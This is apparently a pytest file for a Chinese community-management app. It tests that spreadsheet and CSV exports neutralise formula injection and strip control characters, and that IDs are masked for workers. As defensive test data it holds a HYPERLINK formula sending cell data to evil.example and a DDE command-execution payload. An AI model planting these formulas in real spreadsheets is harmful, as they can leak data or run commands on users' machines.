"""Exports never carry a live formula or a control character, whoever typed what: every cell of
the roster (.xlsx/.csv, API and console), matters.xlsx and tasks.xlsx; control characters are
refused at input with a 422 naming the field. Full personal numbers only where privacy says."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from gridapp.audit import AuditLog

LIVE = ['=HYPERLINK("http://evil.example/?"&I2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [c for row in ws.iter_rows() for c in row]


def _legacy(resident_id: int, **values) -> None:
    """Write what the input rule now refuses, as rows stored before it would hold it."""
    from gridapp.registry.models import Resident

    Resident.update(**values).where(Resident.id == resident_id).execute()


def test_roster_export_neutralises_formulas_and_strips_controls(reg, org, login_as):
    _legacy(reg.zhangsan["id"], name=LIVE[0], notes="+86 备注", relation="@户主")
    _legacy(reg.lisi["id"], name="李\x01四\x0b", notes="a\tb\nc")
    sup = login_as(reg.supervisor)
    resp = sup.get(f"/api/v1/roster/export?grid_id={org.grid.id}")
    assert resp.status_code == 200
    cells = _cells(resp.data)
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert LIVE[0] in values and "+86 备注" in values and "@户主" in values  # the text is intact
    assert "李四" in values and "a\tb\nc" in values  # controls stripped, tab/LF kept
    live = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert live and all(c.quotePrefix for c in live)
    assert "11010519491231002X" in values  # a supervisor's export has full ID numbers

    csv_resp = sup.get(f"/api/v1/roster/export?grid_id={org.grid.id}&format=csv")
    assert csv_resp.status_code == 200 and csv_resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(csv_resp.data.decode("utf-8-sig"))))
    fields = [f for r in rows for f in r]
    assert "'" + LIVE[0] in fields and "'+86 备注" in fields and "'@户主" in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "李四" in fields
    audits = list(AuditLog.select().where(AuditLog.action == "export.roster"))
    assert len(audits) == 2 and '"personal_numbers": "full"' in audits[0].detail


def test_worker_export_is_masked_in_the_api_as_the_rule_says(reg, org, login_as):
    resp = login_as(reg.worker).get(f"/api/v1/roster/export?grid_id={org.grid.id}&format=csv")
    assert resp.status_code == 200
    text = resp.data.decode("utf-8-sig")
    assert "11010519491231002X" not in text and "13812345678" not in text
    assert "1101**********002X" in text and "138****5678" in text
    audit = AuditLog.get(AuditLog.action == "export.roster")
    assert '"personal_numbers": "masked"' in audit.detail


def test_matters_and_tasks_exports(reg, org, login_as, make_user):
    from gridapp.matters.models import Matter
    from gridapp.matters.service import report_matter

    m = report_matter(None, source="resident", grid_id=org.grid.id, text="=1+1 楼道灯坏了")
    legacy = report_matter(None, source="resident", grid_id=org.grid.id, text="旧数据")
    Matter.update(text="垂直\x0b制表", title="=cmd|' /C calc'!A0").where(
        Matter.id == legacy.id
    ).execute()
    sup = login_as(reg.supervisor)
    resp = sup.get("/console/matters.xlsx")
    assert resp.status_code == 200, resp.status_code
    cells = _cells(resp.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "=cmd|' /C calc'!A0" in {c.value for c in cells}
    assert any(str(c.value).startswith("=1+1") for c in cells), m.id  # the resident's text
    task = sup.post(
        "/api/v1/tasks", json={"title": "=1+2", "target": "worker", "worker_id": reg.worker.id}
    )
    assert task.status_code == 201
    tasks = _cells(sup.get("/console/tasks.xlsx").data)
    assert "=1+2" in {c.value for c in tasks} and not [c for c in tasks if c.data_type == "f"]


def test_control_characters_are_refused_at_input(reg, login_as):
    c = login_as(reg.worker)
    resp = c.patch(f"/api/v1/residents/{reg.lisi['id']}", json={"version": 1, "name": "李\x01四"})
    assert resp.status_code == 422 and resp.get_json()["field"] == "name"
    assert resp.get_json()["code"] == "control_character"
    ok = c.patch(f"/api/v1/residents/{reg.lisi['id']}", json={"version": 1, "notes": "a\tb\r\nc"})
    assert ok.status_code == 200
    sync = c.post(
        "/api/v1/sync",
        json={"ops": [{"op_id": "x1", "type": "household.update", "base_version": 1,
                       "payload": {"id": reg.household["id"], "changes": {"notes": "\x1b[31m"}}}]},
    )  # fmt: skip
    assert sync.status_code == 422 and sync.get_json()["field"] == "ops.0.payload.changes.notes"
    sup = login_as(reg.supervisor)
    page = sup.post("/console/announcements", data={"title": "停水\x0b通知"})
    assert page.status_code == 422
